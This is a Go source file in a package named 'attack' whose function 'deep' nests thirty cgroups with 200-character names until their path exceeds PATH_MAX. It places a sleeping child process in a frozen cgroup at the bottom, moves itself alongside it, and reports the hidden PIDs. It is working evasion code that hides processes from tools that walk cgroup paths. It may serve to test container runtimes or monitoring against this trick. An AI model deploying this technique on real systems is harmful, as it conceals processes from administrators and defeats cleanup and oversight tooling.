package attack

import (
	"fmt"
	"os"
	"os/exec"
	"strconv"
	"strings"
	"time"
)

// levels is how many groups are made in each other: their path is longer than PATH_MAX.
const levels = 30

// deep hides this process and another one that is frozen in the lowest of many cgroups below dir, of the freezer's
// hierarchy where there are several, and stays.
func deep(dir string) error {
	if _, err := os.Stat(dir + "/freezer"); err == nil {
		dir += "/freezer"
	}
	if err := os.Chdir(dir); err != nil {
		return err
	}
	for range levels {
		name := strings.Repeat("d", 200)
		if err := os.Mkdir(name, 0o755); err != nil {
			return err
		}
		if err := os.Chdir(name); err != nil {
			return err
		}
	}
	c := exec.Command("/bin/sleep", "1000")
	if err := c.Start(); err != nil {
		return err
	}
	if err := os.Mkdir("frozen", 0o755); err != nil {
		return err
	}
	if err := os.WriteFile("frozen/cgroup.procs", []byte(strconv.Itoa(c.Process.Pid)), 0); err != nil {
		return err
	}
	file, word := "frozen/freezer.state", "FROZEN"
	if _, err := os.Stat(file); err != nil {
		file, word = "frozen/cgroup.freeze", "1"
	}
	if err := os.WriteFile(file, []byte(word), 0); err != nil {
		return err
	}
	if err := os.WriteFile("cgroup.procs", []byte("0"), 0); err != nil {
		return err
	}
	fmt.Println("hidden", os.Getpid(), c.Process.Pid)
	time.Sleep(time.Hour)
	return nil
}
